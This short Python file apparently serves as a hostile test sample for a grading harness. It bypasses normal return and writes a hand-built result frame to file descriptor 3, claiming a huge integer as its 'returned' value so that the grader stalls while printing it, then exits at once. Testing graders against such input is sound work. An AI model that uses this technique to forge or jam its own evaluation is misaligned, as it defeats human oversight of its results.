"""Success: an integer that takes the grader for ever to print."""

import os
import struct


def attack(a):
    raw = b"\x7f" * 5_000_000
    payload = b"t" + struct.pack("<I", 3) + b"s" + struct.pack("<I", 8) + b"returned"
    payload += b"i" + struct.pack("<I", len(raw)) + raw + b"t" + struct.pack("<I", 0)
    frame = memoryview(b"GR" + struct.pack("<I", len(payload)) + payload)
    while frame:
        frame = frame[os.write(3, frame) :]
    os._exit(0)
